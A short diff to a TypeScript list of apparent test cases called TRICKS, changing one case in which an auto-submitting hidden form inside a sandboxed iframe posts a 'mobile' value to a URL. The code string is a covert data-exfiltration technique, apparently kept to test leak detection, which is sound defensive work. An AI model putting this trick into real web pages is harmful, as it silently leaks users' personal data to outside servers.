@@ -51,7 +51,7 @@ export const TRICKS: readonly Case[] = [
   {
     name: 'frame-sandbox-form',
     channel: 'form',
-    act: `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-forms'; f.srcdoc = '<form method=post action="' + u + '"><input name=mobile value="' + v + '"></form><script>document.forms[0].submit()<' + '/script>'; document.body.append(f)`,
+    act: `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts allow-forms'; f.srcdoc = '<form method=post action="' + u + '"><input type=hidden name=mobile value="' + v + '"></form><script>document.forms[0].submit()<' + '/script>'; document.body.append(f)`,
     where: /mobile/,
   },
 ]
